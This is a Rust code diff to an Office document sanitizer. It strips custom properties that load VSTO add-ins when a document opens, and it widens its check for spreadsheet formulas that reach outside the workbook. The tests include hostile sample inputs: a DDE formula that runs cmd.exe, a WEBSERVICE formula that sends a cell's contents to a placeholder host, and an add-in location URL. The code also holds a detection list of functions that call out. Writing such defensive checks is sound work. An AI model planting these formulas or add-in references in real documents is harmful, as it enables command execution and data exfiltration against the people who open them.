@@ -33,6 +33,8 @@ pub enum Role {
     Worksheet,
     /// The SpreadsheetML workbook; the positions (0-based) of `<sheet>` entries being removed.
     Workbook { removed_sheets: Vec<usize> },
+    /// Custom document properties (`docProps/custom.xml`).
+    CustomProperties,
     /// Anything else.
     Other,
 }
@@ -320,6 +322,15 @@ impl<'p, 'b> Rewriter<'p, 'b> {
             }
         }
 
+        // Custom properties that make Office load a document-level add-in on open.
+        if self.plan.role == Role::CustomProperties && name == b"property" {
+            let prop = xml::attr(&e, b"name").unwrap_or_default();
+            if prop.eq_ignore_ascii_case("_AssemblyLocation") || prop.eq_ignore_ascii_case("_AssemblyName") {
+                self.action(ActionKind::RemovedAddinReference, Some(prop));
+                return Ok(Decision::Drop);
+            }
+        }
+
         // DrawingML click/hover actions that run programs, macros or OLE verbs.
         if matches!(name, b"hlinkClick" | b"hlinkHover" | b"hlinkMouseOver") {
             if let Some(action) = xml::attr(&e, b"action") {
@@ -600,8 +611,12 @@ fn is_macro_name_flag(e: &BytesStart<'_>) -> bool {
         .any(|k| matches!(xml::attr(e, k).as_deref(), Some("1") | Some("true")))
 }
 
-/// Whether a spreadsheet formula calls DDE (`app|topic!item`) or reads another workbook
-/// (`[1]Sheet1!A1`). Text inside double-quoted strings does not count; a `|` inside a quoted
+/// Worksheet functions that reach outside the workbook or call code when the sheet recalculates.
+const CALLING_OUT: &[&str] = &["WEBSERVICE", "RTD", "CALL", "REGISTER", "REGISTER.ID", "EXEC"];
+
+/// Whether a spreadsheet formula calls DDE (`app|topic!item`), reads another workbook
+/// (`[1]Sheet1!A1`) or calls a function that reaches out (`WEBSERVICE`, `RTD`, `CALL`, an add-in
+/// function `_xll.*`). Text inside double-quoted strings does not count; a `|` inside a quoted
 /// sheet name does not either.
 pub fn formula_threat(f: &str) -> Option<ActionKind> {
     let chars: Vec<char> = f.chars().collect();
@@ -615,6 +630,17 @@ pub fn formula_threat(f: &str) -> Option<ActionKind> {
             '"' if !in_sq => in_dq = !in_dq,
             '\'' if !in_dq => in_sq = !in_sq,
             '|' if !in_dq && !in_sq => return Some(ActionKind::RemovedDdeFormula),
+            '(' if !in_dq && !in_sq => {
+                let mut j = i;
+                while j > 0 && (chars[j - 1].is_alphanumeric() || chars[j - 1] == '.' || chars[j - 1] == '_') {
+                    j -= 1;
+                }
+                let name: String = chars[j..i].iter().collect::<String>().to_ascii_uppercase();
+                let bare = name.strip_prefix("_XLFN.").unwrap_or(&name);
+                if name.starts_with("_XLL.") || CALLING_OUT.contains(&bare) {
+                    external = true;
+                }
+            }
             '[' if !in_dq => {
                 let mut j = i + 1;
                 while j < chars.len() && chars[j].is_ascii_digit() {
@@ -740,6 +766,15 @@ mod tests {
     }
 
     #[test]
+    fn add_in_custom_properties_are_removed() {
+        let props = r#"<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="_AssemblyLocation"><vt:lpwstr>http://x/a.vsto|vstolocal</vt:lpwstr></property><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="Department"><vt:lpwstr>Radiology</vt:lpwstr></property></Properties>"#;
+        let o = run(props, Role::CustomProperties, &[]);
+        let t = text(&o);
+        assert!(!t.contains("vsto") && t.contains("Radiology"), "{t}");
+        assert_eq!(o.actions[0].action, ActionKind::RemovedAddinReference);
+    }
+
+    #[test]
     fn program_actions_are_removed() {
         let slide = r#"<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:hlinkClick r:id="rId2" action="ppaction://program"/><a:hlinkClick r:id="rId3"/></p:sld>"#;
         let o = run(slide, Role::Other, &[]);
@@ -765,5 +800,10 @@ mod tests {
         assert_eq!(formula_threat("Table1[Col]"), None);
         assert_eq!(formula_threat("MSEXCEL|'\\..\\cmd.exe /c calc'!''"), Some(ActionKind::RemovedDdeFormula));
         assert_eq!(formula_threat("\"[1]\""), None);
+        assert_eq!(formula_threat("_xlfn.WEBSERVICE(\"http://x/?\"&A1)"), Some(ActionKind::RemovedExternalFormula));
+        assert_eq!(formula_threat("rtd(\"srv\",,\"t\")"), Some(ActionKind::RemovedExternalFormula));
+        assert_eq!(formula_threat("_xll.MyAddinFn(1)"), Some(ActionKind::RemovedExternalFormula));
+        assert_eq!(formula_threat("RECALL(1)+SUM(A1)"), None);
+        assert_eq!(formula_threat("\"CALL(\"&A1"), None);
     }
 }
